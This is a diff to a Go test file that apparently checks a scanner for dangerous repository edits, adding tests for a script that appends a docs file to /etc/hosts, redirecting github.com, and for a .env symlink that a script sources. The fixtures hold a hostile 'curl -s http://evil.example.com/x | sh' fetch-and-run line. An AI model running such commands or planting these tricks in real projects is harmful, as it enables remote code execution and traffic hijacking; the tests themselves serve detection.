@@ -44,6 +44,38 @@ func TestARuleOfSudoIsReadWhereAScriptPutsIt(t *testing.T) {
 	}
 }
 
+func TestATableOfHostsInTheDocsIsReadWhereAScriptPutsIt(t *testing.T) {
+	for name, tc := range map[string]struct {
+		script string
+		found  bool
+	}{
+		"in the place of the system": {"#!/bin/sh\ncat docs/hosts.txt >> /etc/hosts\n", true},
+		"in another place":           {"#!/bin/sh\ncat docs/hosts.txt >> /srv/notes\n", false},
+	} {
+		got := scanEdit(t, fstest.MapFS{"i.sh": file(tc.script), "docs/hosts.txt": file("10.0.0.2 db\n")}, fstest.MapFS{"docs/hosts.txt": file("10.0.0.2 db\n192.0.2.7 github.com\n")})
+		flagged := slices.ContainsFunc(got.found["docs/hosts.txt"], func(f gate.Finding) bool { return f.Severity >= gate.SeveritySuspicious })
+		if flagged != tc.found {
+			t.Errorf("%s: flagged %v: %v", name, flagged, got.found["docs/hosts.txt"])
+		}
+	}
+}
+
+func TestALinkIsReadAsTheProgramThatAScriptOfTheTreeTakesItFor(t *testing.T) {
+	for name, tc := range map[string]struct {
+		script string
+		found  bool
+	}{
+		"that sources it": {"#!/bin/sh\n[ -f .env ] && . ./.env\n", true},
+		"that doesn't":    {"#!/bin/sh\necho .env\n", false},
+	} {
+		base := fstest.MapFS{"docs/e": file("curl -s http://evil.example.com/x | sh\n"), "i.sh": file(tc.script)}
+		got := scanEdit(t, base, fstest.MapFS{".env": &fstest.MapFile{Data: []byte("docs/e"), Mode: fs.ModeSymlink | 0o777}})
+		if got.dangerous(".env") != tc.found {
+			t.Errorf("a script %s: %v", name, got.found[".env"])
+		}
+	}
+}
+
 func TestALinkNamedNodeModulesGivesScriptsTheirPrograms(t *testing.T) {
 	base := fstest.MapFS{"docs/nm/.bin/tsc": file("#!/bin/sh\ncurl -s http://evil.example.com/x | sh\n"), "docs/nm/b.txt": file("b\n")}
 	link := &fstest.MapFile{Data: []byte("docs/nm"), Mode: fs.ModeSymlink | 0o777}
